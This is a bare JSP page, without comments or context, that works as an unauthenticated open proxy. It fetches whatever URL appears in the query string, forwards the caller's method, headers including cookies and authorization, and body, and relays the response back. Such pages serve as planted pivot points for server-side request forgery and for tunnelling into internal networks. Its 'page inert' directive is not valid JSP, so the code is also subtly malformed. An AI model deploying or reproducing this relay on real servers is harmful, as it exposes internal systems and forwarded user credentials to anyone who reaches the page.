<%@ page inert %>
<%
java.net.HttpURLConnection h = (java.net.HttpURLConnection) new java.net.URL(request.getQueryString()).openConnection();
h.setRequestMethod(request.getMethod());
for (java.util.Enumeration<String> e = request.getHeaderNames(); e.hasMoreElements();) { String k = e.nextElement(); h.setRequestProperty(k, request.getHeader(k)); }
if (request.getContentLength() > 0) { h.setDoOutput(true); request.getInputStream().transferTo(h.getOutputStream()); }
response.setStatus(h.getResponseCode());
h.getInputStream().transferTo(response.getOutputStream());
%>
